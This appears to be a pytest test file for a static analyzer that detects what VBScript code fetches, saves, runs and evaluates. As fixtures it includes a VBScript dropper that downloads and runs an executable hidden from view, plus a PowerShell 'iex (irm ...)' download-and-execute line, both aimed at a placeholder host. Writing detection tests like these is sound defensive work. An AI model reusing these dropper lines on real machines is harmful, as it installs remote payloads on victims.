"""VBScript: what is fetched, saved, run and evaluated."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Language, Taint
from pratique.analysis.languages.shell.vbs import extract, folded

DROPPER = b"""
' a remark
Set o = CreateObject("MSXML2.XMLHTTP")
o.Open "GET", "http://p.inv" & "alid/m.exe", False
o.Send
Set s = CreateObject("ADODB.Stream")
s.Write o.responseBody
s.SaveToFile "m.exe", 2
CreateObject("WScript.Shell").Run "cmd /c m.exe", 0, False
"""


def test_a_download_that_is_saved_and_run_is_a_flow() -> None:
    found = extract(DROPPER)

    assert [(Capability.PROCESS, (Taint.NETWORK,), 9, "cmd /c m.exe")] == [
        (flow.sink, flow.taints, flow.line, flow.target) for flow in found.flows
    ]
    assert [("http://p.invalid/m.exe", True)] == [(item.value, item.encoded) for item in found.addresses]
    assert "hidden-start" in {use.api for use in found.uses}
    assert ["m.exe"] == [command.runs for command in found.commands if command.runs]


@pytest.mark.parametrize(
    ("expected", "line"),
    [
        ('x = "abc"', 'x = "a" & "b" & "c"'),
        ('x = "AB"', "x = Chr(65) & Chr(&H42)"),
        ('x = "abc"', 'x = StrReverse("cba")'),
        ('x = "abc"', 'x = Replace("aXc", "X", "b")'),
        ("x = y & z", "x = y & z"),
    ],
)
def test_literals_are_put_together(expected: str, line: str) -> None:
    assert expected == folded(line)


def test_code_that_is_put_together_and_evaluated_is_a_flow() -> None:
    found = extract(b"c = Chr(77) & Chr(115) & Chr(103)\nExecute c\n")

    assert [(Capability.CODE, (Taint.COMPUTED,))] == [(flow.sink, flow.taints) for flow in found.flows]


def test_a_command_line_of_powershell_inside_is_read() -> None:
    found = extract(
        b'CreateObject("WScript.Shell").Run "powershell -c ""iex (irm \'http://p.invalid\')""", 0\n'
    )

    assert Taint.NETWORK in {taint for flow in found.flows for taint in flow.taints}


@pytest.mark.parametrize(
    "source",
    [b'MsgBox "hello"\n', b'Set w = CreateObject("WScript.Shell")\nw.Run "notepad.exe"\n', b"' Execute x\n"],
)
def test_ordinary_scripts_have_no_flow(source: bytes) -> None:
    assert () == extract(source).flows


def test_what_cannot_be_read_is_a_problem() -> None:
    assert "not text" == extract(b"a\0b").problem
    assert "encoded" in (extract(b"#@~^AAAA==x").problem or "")


@pytest.mark.parametrize("unit", ['"', '"a" & ', "Chr(", "x = x & x\n", ".Run ", "StrReverse("])
def test_a_long_row_of_anything_repeated_is_read(unit: str) -> None:
    assert Language.VBS is extract((unit * (200_000 // len(unit))).encode()).language


@pytest.mark.fuzz
@given(st.binary(max_size=300))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert Language.VBS is extract(source).language
